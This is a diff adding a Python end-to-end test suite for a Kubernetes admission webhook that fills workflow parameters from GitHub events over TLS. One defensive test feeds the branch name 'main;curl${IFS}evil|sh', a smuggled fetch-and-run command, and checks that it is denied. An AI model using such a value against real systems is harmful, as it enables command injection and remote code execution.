@@ -1,0 +1,237 @@
+"""End-to-end: the real server over TLS, answered reviews applied with python3-jsonpatch."""
+import http.client
+import json
+import os
+import socket
+import ssl
+import subprocess
+import threading
+import unittest
+
+import jsonpatch
+
+from harness import PROMPTS_DIR, WebhookServer, decode_patch, event_text, workflow
+
+
+def arguments(obj):
+    return {p["name"]: p.get("value") for p in obj["spec"]["arguments"]["parameters"]}
+
+
+class AdmissionOverTls(unittest.TestCase):
+    @classmethod
+    def setUpClass(cls):
+        cls.server = WebhookServer().__enter__()
+
+    @classmethod
+    def tearDownClass(cls):
+        code = cls.server.stop()
+        cls.server.tmp.cleanup()
+        assert code == 0, "webhook exit code %r after SIGTERM" % code
+
+    def mutate(self, obj):
+        status, response = self.server.admit(obj)
+        self.assertEqual(status, 200, response)
+        return response
+
+    def test_pull_request_event_is_filled_and_patch_applies(self):
+        wf = workflow([("github-app", "clippy"), ("event", event_text("pull_request.opened"))])
+        response = self.mutate(wf)
+        self.assertTrue(response["allowed"])
+        mutated = jsonpatch.apply_patch(wf, decode_patch(response))
+        args = arguments(mutated)
+        self.assertEqual(args["owner"], "Codertocat")
+        self.assertEqual(args["repo"], "Hello-World")
+        self.assertEqual(args["repoFullName"], "Codertocat/Hello-World")
+        self.assertEqual(args["ref"], "changes")
+        self.assertEqual(args["sha"], "ec26c3e57ca3a959ca5aad62de7213c562f8c821")
+        self.assertEqual(args["prNumber"], "2")
+        self.assertEqual(args["systemPromptPath"], os.path.abspath(PROMPTS_DIR) + "/clippy_system-prompt.md")
+        self.assertEqual(args["github-app"], "clippy")  # untouched
+        labels = mutated["metadata"]["labels"]
+        self.assertEqual(labels, {"taskmaster.io/github-app": "clippy", "taskmaster.io/repo": "Codertocat.Hello-World",
+                                  "taskmaster.io/pr-number": "2"})
+        sources = json.loads(mutated["metadata"]["annotations"]["taskmaster.io/value-sources"])
+        self.assertEqual(sources["owner"], "event:.repository.owner.login")
+        self.assertEqual(response["auditAnnotations"]["decision"], "mutated")
+
+        # Re-invocation (reinvocationPolicy IfNeeded): nothing more to change.
+        again = self.mutate(mutated)
+        self.assertTrue(again["allowed"])
+        self.assertNotIn("patch", again)
+        self.assertNotIn("patchType", again)
+        # The validating pass accepts the result and never patches.
+        status, validated = self.server.admit(mutated, endpoint="/validate")
+        self.assertEqual(status, 200)
+        self.assertTrue(validated["allowed"])
+        self.assertNotIn("patch", validated)
+
+    def test_every_fixture_is_admitted_and_its_patch_applies(self):
+        for name in sorted(os.listdir(os.path.join(os.environ.get("CODERUN_FIXTURES_DIR", "../../../shared/fixtures"), "github-events"))):
+            with self.subTest(name):
+                wf = workflow([("github-app", "rex"), ("event", event_text(name[:-5]))])
+                response = self.mutate(wf)
+                self.assertTrue(response["allowed"], response.get("status"))
+                mutated = jsonpatch.apply_patch(wf, decode_patch(response))
+                self.assertTrue(arguments(mutated)["repoFullName"])
+                self.assertTrue(arguments(mutated)["ref"])
+
+    def test_user_parameters_win_with_a_warning(self):
+        wf = workflow([("github-app", "rex"), ("ref", "hotfix"), ("event", event_text("push.branch"))])
+        response = self.mutate(wf)
+        mutated = jsonpatch.apply_patch(wf, decode_patch(response))
+        self.assertEqual(arguments(mutated)["ref"], "hotfix")
+        self.assertEqual(len(response["warnings"]), 1)
+        self.assertIn("'hotfix' set by the user is kept", response["warnings"][0])
+
+    def test_fork_pull_request_uses_the_pull_ref(self):
+        wf = workflow([("github-app", "qa"), ("event", event_text("pull_request.opened.from-fork"))])
+        mutated = jsonpatch.apply_patch(wf, decode_patch(self.mutate(wf)))
+        self.assertEqual(arguments(mutated)["ref"], "refs/pull/217/head")
+        self.assertEqual(arguments(mutated)["repoFullName"], "listendev/lstn")
+
+    def test_seed_error_messages_are_denials_with_403(self):
+        cases = [
+            ([("github-app", "invalid-app"), ("event", event_text("push.branch"))],
+             "Error: Invalid github-app 'invalid-app'. Must be one of: rex, clippy, qa, triage, security"),
+            ([("github-app", "rex"), ("event", "{}")],
+             "Error: Repository information not available from event payload and no git context found"),
+        ]
+        for parameters, message in cases:
+            for endpoint in ("/mutate", "/validate"):
+                with self.subTest(message=message, endpoint=endpoint):
+                    status, response = self.server.admit(workflow(parameters), endpoint=endpoint)
+                    self.assertEqual(status, 200)
+                    self.assertFalse(response["allowed"])
+                    self.assertEqual(response["status"]["code"], 403)
+                    self.assertEqual(response["status"]["message"], message)
+                    self.assertNotIn("patch", response)
+
+    def test_malformed_event_is_a_warning_not_a_failure(self):
+        wf = workflow([("github-app", "rex"), ("repoFullName", "acme/tools"), ("event", '{"repository": ')])
+        response = self.mutate(wf)
+        self.assertTrue(response["allowed"])
+        self.assertTrue(any("not valid JSON" in w for w in response["warnings"]))
+        self.assertEqual(arguments(jsonpatch.apply_patch(wf, decode_patch(response)))["ref"], "main")
+
+    def test_hostile_branch_name_is_denied_naming_the_field(self):
+        event = json.loads(event_text("pull_request.opened"))
+        event["pull_request"]["head"]["ref"] = "main;curl${IFS}evil|sh"
+        status, response = self.server.admit(workflow([("github-app", "rex"), ("event", json.dumps(event))]))
+        self.assertEqual(status, 200)
+        self.assertFalse(response["allowed"])
+        self.assertIn("Invalid ref", response["status"]["message"])
+
+    def test_objects_it_does_not_serve_are_allowed_untouched(self):
+        other = workflow([("message", "hello")], template="hello-world")
+        response = self.mutate(other)
+        self.assertEqual(response, {"uid": response["uid"], "allowed": True})
+        pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p", "namespace": "default"}}
+        self.assertEqual(self.mutate(pod)["allowed"], True)
+
+    def test_bad_requests_get_clear_4xx_and_the_server_keeps_serving(self):
+        good = workflow([("github-app", "rex"), ("repoFullName", "a/b")])
+        from harness import review
+        cases = [
+            ("POST", "/mutate", b"{not json", "application/json", 400, "not valid JSON"),
+            ("POST", "/mutate", b"[]", "application/json", 400, "not an AdmissionReview"),
+            ("POST", "/mutate", json.dumps(review(good)).encode(), "text/plain", 415, "application/json"),
+            ("POST", "/mutate", json.dumps(dict(review(good), apiVersion="admission.k8s.io/v1beta1")).encode(),
+             "application/json", 400, "admission.k8s.io/v1"),
+            ("POST", "/validate", json.dumps({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
+                                               "request": {"kind": {}}}).encode(), "application/json", 400, "uid"),
+            ("POST", "/mutate", json.dumps({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview"}).encode(),
+             "application/json", 400, "request is missing"),
+            ("GET", "/mutate", None, None, 405, "POST"),
+            ("GET", "/nowhere", None, None, 404, "no such endpoint"),
+            ("POST", "/mutate", b"[" * 5000 + b"]" * 5000, "application/json", 400, "nested"),
+        ]
+        for method, path, body, content_type, status, text in cases:
+            with self.subTest(path=path, status=status, text=text):
+                got, answer = self.server.curl(method, path, body, content_type=content_type)
+                self.assertEqual(got, status, answer)
+                self.assertIn(text, answer)
+        # A body over the limit (3 MiB) is refused with 413 before it is parsed.
+        got, answer = self.server.curl("POST", "/mutate", b" " * (4 << 20))
+        self.assertEqual(got, 413, answer)
+        self.assertEqual(self.server.get("/healthz")[0], 200)
+        self.assertTrue(self.server.admit(good)[1]["allowed"])
+
+    def test_health_and_readiness(self):
+        self.assertEqual(self.server.get("/healthz"), (200, "ok\n"))
+        self.assertEqual(self.server.get("/readyz"), (200, "ok\n"))
+
+    def test_tls_1_2_and_1_3_only(self):
+        def handshake(version_flag):
+            result = subprocess.run(
+                ["openssl", "s_client", "-connect", "127.0.0.1:%d" % self.server.port, version_flag,
+                 "-CAfile", self.server.ca, "-verify_return_error", "-servername", "localhost"],
+                input=b"", capture_output=True, timeout=20)
+            return result.returncode
+        self.assertEqual(handshake("-tls1_3"), 0)
+        self.assertEqual(handshake("-tls1_2"), 0)
+        self.assertNotEqual(handshake("-tls1_1"), 0)
+
+    def test_certificate_names_the_service(self):
+        text = subprocess.run(["openssl", "x509", "-in", os.path.join(self.server.certs, "tls.crt"), "-noout", "-ext",
+                               "subjectAltName"], capture_output=True, text=True, check=True).stdout
+        for name in ("DNS:coderun-webhook.coderun-webhook.svc", "DNS:coderun-webhook.coderun-webhook.svc.cluster.local",
+                     "IP Address:127.0.0.1"):
+            self.assertIn(name, text)
+
+    def test_many_keep_alive_connections_are_served_at_once(self):
+        """More open keep-alive connections than cpp-httplib's default 8 workers, each sending
+        many requests (more than its default 5 per connection) without reconnecting."""
+        context = ssl.create_default_context(cafile=self.server.ca)
+        body = json.dumps(__import__("harness").review(workflow([("github-app", "rex"), ("repoFullName", "a/b")])))
+        connections = 24
+        requests_each = 20
+        barrier = threading.Barrier(connections)
+        failures = []
+
+        def client():
+            try:
+                conn = http.client.HTTPSConnection("127.0.0.1", self.server.port, context=context, timeout=5)
+                conn.connect()
+                barrier.wait(timeout=10)  # every connection open before any request
+                sock = conn.sock
+                for _ in range(requests_each):
+                    conn.request("POST", "/mutate", body, {"Content-Type": "application/json"})
+                    response = conn.getresponse()
+                    data = response.read()
+                    if response.status != 200 or not json.loads(data)["response"]["allowed"]:
+                        failures.append("status %d" % response.status)
+                    if response.getheader("Connection", "").lower() == "close":
+                        failures.append("server closed the keep-alive connection")
+                if conn.sock is not sock:
+                    failures.append("reconnected")
+                conn.close()
+            except (OSError, threading.BrokenBarrierError, http.client.HTTPException) as error:
+                failures.append(repr(error))
+
+        threads = [threading.Thread(target=client) for _ in range(connections)]
+        for t in threads:
+            t.start()
+        for t in threads:
+            t.join()
+        self.assertEqual(failures, [])
+
+    def test_logs_are_one_json_object_per_line(self):
+        self.server.admit(workflow([("github-app", "rex"), ("repoFullName", "a/b")]), uid="log-check-uid")
+        lines = [l for l in self.server.log_lines() if l.get("uid") == "log-check-uid"]
+        self.assertEqual(len(lines), 1)
+        line = lines[0]
+        for key in ("time", "level", "msg", "kind", "namespace", "name", "app", "decision", "latency_us"):
+            self.assertIn(key, line)
+        self.assertEqual(line["decision"], "mutated")
+
+
+class Shutdown(unittest.TestCase):
+    def test_sigterm_exits_zero(self):
+        with WebhookServer() as server:
+            self.assertEqual(server.get("/healthz")[0], 200)
+            self.assertEqual(server.stop(), 0)
+            self.assertTrue(any(l.get("msg") == "stopped" for l in server.log_lines()))
+
+
+if __name__ == "__main__":
+    unittest.main()
